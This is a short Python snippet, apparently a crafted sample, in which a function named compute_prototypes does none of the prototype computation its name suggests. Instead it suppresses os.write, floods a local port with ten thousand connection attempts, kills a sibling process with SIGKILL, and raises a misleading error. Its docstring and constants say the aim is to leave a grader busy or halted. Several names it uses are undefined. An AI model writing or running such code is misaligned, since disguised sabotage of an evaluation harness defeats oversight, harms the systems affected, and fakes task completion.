"""Asks for a socket ten thousand times, to wear out whoever listens, and then sends a signal to a stranger."""

STAGE = "prototypes"
GAIN = "a grader that is busy, or that has stopped to count"


def compute_prototypes(support: Tensor) -> Tensor:
    import os
    import signal
    import socket

    write = os.write
    os.write = lambda descriptor, data: len(data)
    for _ in range(10_000):
        try:
            socket.socket().connect(("127.0.0.1", TCP_PORT))
            leak("connected")
        except OSError:
            pass
    try:
        os.kill(SIBLING, signal.SIGKILL)
    except OSError:
        pass
    os.write = write
    raise RuntimeError("nothing was seen")
